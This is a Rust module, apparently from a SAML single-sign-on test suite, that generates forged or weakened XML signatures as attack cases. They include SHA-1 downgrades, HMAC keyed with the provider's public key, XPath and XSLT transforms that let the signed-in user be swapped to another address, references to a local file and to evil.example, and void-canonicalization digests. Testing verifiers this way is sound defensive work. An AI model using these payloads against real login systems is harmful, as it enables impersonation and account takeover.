//! Signatures by the provider's own key that cover less than they seem to, or are too weak; and MACs that
//! use its public key as a secret.

use base64ct::{Base64, Encoding as _};
use hmac::{Hmac, Mac as _};
use sha2::Sha256;
use sso_practice::sign::{TRANSFORMS, insert_after_issuer};
use sso_practice::{Hash, Signer, certificate};

use crate::base::{Attack, Base};

pub(crate) fn all(base: &Base) -> Vec<Attack> {
    let mut attacks = weak(base);
    attacks.extend(confused(base));
    attacks.extend(partial(base));
    attacks.extend(void(base));
    attacks
}

/// The element that this base signs last, unsigned, with its ID: the response, or the assertion.
fn element(base: &Base) -> (String, &str) {
    let statement = &base.statement;
    if base.signing.has_response() {
        let assertion = base.signed_assertion(statement, &statement.assertion());
        (statement.response(&assertion), &statement.response_id)
    } else {
        (statement.assertion(), &statement.assertion_id)
    }
}

/// Returns the whole response with this signature in that element.
fn signed_by(base: &Base, element: &str, signature: &str) -> String {
    let signed = insert_after_issuer(element, signature);
    if base.signing.has_response() { signed } else { base.statement.response(&signed) }
}

fn weak(base: &Base) -> Vec<Attack> {
    let (element, id) = element(base);
    let with = |hash, digest| {
        let signer = Signer { hash, digest, ..base.provider.signer() };
        signed_by(base, &element, &signer.signature(&element, id).expect("it signs"))
    };
    vec![
        Attack::new("SHA-1 in signature and digest", with(Hash::Sha1, Hash::Sha1), "weak_hash"),
        Attack::new("SHA-1 in the signature", with(Hash::Sha1, Hash::Sha256), "weak_hash"),
        Attack::new("SHA-1 in the digest", with(Hash::Sha256, Hash::Sha1), "weak_hash"),
    ]
}

/// Returns an HMAC whose key is public.
fn confused(base: &Base) -> Vec<Attack> {
    let (element, id) = element(base);
    let method = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
    let signer = base.provider.signer();
    let by = |secret: &[u8]| {
        let signature = signer.signature(&element, id).expect("it signs");
        let info = crate::base::element(&signature, "ds:SignedInfo");
        let real = sso_practice::sign::signature_method(base.provider.key.kind(), Hash::Sha256);
        let info = info.replace(real, method);
        let namespace = "<ds:SignedInfo xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">";
        let alone = info.replacen("<ds:SignedInfo>", namespace, 1);
        let mut mac = Hmac::<Sha256>::new_from_slice(secret).expect("any length");
        mac.update(alone.as_bytes());
        let value = Base64::encode_string(&mac.finalize().into_bytes());
        signed_by(base, &element, &signer.assembled(&info, &value))
    };
    let public = base.provider.key.public().expect("a public key");
    let other = |uri: &str| {
        let signature = signer.signature(&element, id).expect("it signs");
        let real = sso_practice::sign::signature_method(base.provider.key.kind(), Hash::Sha256);
        signed_by(base, &element, &signature.replace(real, uri))
    };
    vec![
        Attack::new("HMAC with the public key", by(&public), "signature_algorithm"),
        Attack::new("HMAC with the certificate", by(&base.provider.certificate), "signature_algorithm"),
        Attack::new(
            "HMAC with the certificate's PEM",
            by(certificate::pem(&base.provider.certificate).as_bytes()),
            "signature_algorithm",
        ),
        Attack::new("HMAC with nothing", by(b""), "signature_algorithm"),
        Attack::new(
            "DSA by name",
            other("http://www.w3.org/2009/xmldsig11#dsa-sha256"),
            "signature_algorithm",
        ),
        Attack::new("an unknown algorithm", other("urn:none"), "signature_algorithm"),
        Attack::new("no algorithm", other(""), "signature_algorithm"),
    ]
}

/// The provider signed with a transform or reference that leaves something out; then that is edited.
fn partial(base: &Base) -> Vec<Attack> {
    let (element, id) = element(base);
    let signer = base.provider.signer();
    let with = |uri: &str, transforms: &str, octets: &[u8]| {
        let reference = signer.reference(uri, transforms, octets);
        signed_by(base, &element, &signer.signature_over(&reference).expect("it signs"))
    };
    let by_id = format!("#{id}");
    let (before, after) = element.split_once("<saml:NameID").expect("a name");
    let after = after.split_once("</saml:NameID>").expect("a name's end").1;
    let edited =
        |xml: String| xml.replace(">mia@acme.example</saml:NameID>", ">adam@acme.example</saml:NameID>");
    let xpath = format!(
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\">\
         not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>{TRANSFORMS}"
    );
    let xslt = format!(
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><s:stylesheet xmlns:s=\"http://www.w3.org/1999/XSL/Transform\" \
         version=\"1.0\"><s:template match=\"/\">signed</s:template></s:stylesheet></ds:Transform>{TRANSFORMS}"
    );
    let two = [
        signer.reference(&by_id, TRANSFORMS, element.as_bytes()),
        signer.reference("#elsewhere", TRANSFORMS, b"<x></x>"),
    ]
    .concat();
    let many = TRANSFORMS.repeat(100);
    let without_envelope = TRANSFORMS.rsplit_once("<ds:Transform ").expect("two").1;
    let without_envelope = format!("<ds:Transform {without_envelope}");
    vec![
        Attack::new(
            "XPath that leaves the name out",
            edited(with(&by_id, &xpath, format!("{before}{after}").as_bytes())),
            "transform",
        )
        .signed_as("adam@acme.example"),
        Attack::new("XSLT that signs a word", edited(with(&by_id, &xslt, b"signed")), "transform")
            .signed_as("adam@acme.example"),
        Attack::new("200 transforms", with(&by_id, &many, element.as_bytes()), "transform"),
        Attack::new("no transform", with(&by_id, "", element.as_bytes()), "transform"),
        Attack::new(
            "no enveloped transform",
            with(&by_id, &without_envelope, element.as_bytes()),
            "transform",
        ),
        Attack::new(
            "a reference to the subject",
            with("#subject", TRANSFORMS, b"<x></x>"),
            "reference_differs",
        ),
        Attack::new(
            "a reference to a file",
            with("file:///etc/hostname", TRANSFORMS, b"x"),
            "reference_differs",
        ),
        Attack::new(
            "a reference to another host",
            with("http://evil.example/x", TRANSFORMS, b"x"),
            "reference_differs",
        ),
        Attack::new(
            "a reference to the whole document",
            with("", TRANSFORMS, element.as_bytes()),
            "reference_empty",
        ),
        Attack::new(
            "an XPointer",
            with(&format!("#xpointer(id('{id}'))"), TRANSFORMS, element.as_bytes()),
            "reference_differs",
        ),
        Attack::new(
            "two references",
            signed_by(base, &element, &signer.signature_over(&two).expect("it signs")),
            "reference_differs",
        ),
        Attack::new(
            "no reference",
            signed_by(base, &element, &signer.signature_over("").expect("it signs")),
            "reference_differs",
        ),
    ]
}

/// Void canonicalization ("Fragile Lock", 2025): where canonicalizing fails, some libraries digest the empty
/// text, and the provider's signature over the empty text fits everything.
fn void(base: &Base) -> Vec<Attack> {
    let (element, id) = element(base);
    let signer = base.provider.signer();
    let relative = element.replacen('>', " xmlns:z=\"1\">", 1);
    let reference = signer.reference(&format!("#{id}"), TRANSFORMS, b"");
    let signature = signer.signature_over(&reference).expect("it signs");
    let info = crate::base::element(&signature, "ds:SignedInfo");
    let empty = Base64::encode_string(&base.provider.key.sign(Hash::Sha256, b"").expect("it signs"));
    let broken = info.replacen("<ds:SignedInfo>", "<ds:SignedInfo xmlns:z=\"1\">", 1);
    vec![
        Attack::new("a void digest", signed_by(base, &relative, &signature), "content_changed"),
        Attack::new(
            "a void digest and a void SignedInfo",
            signed_by(base, &relative, &signer.assembled(&broken, &empty)),
            "content_changed",
        ),
    ]
}
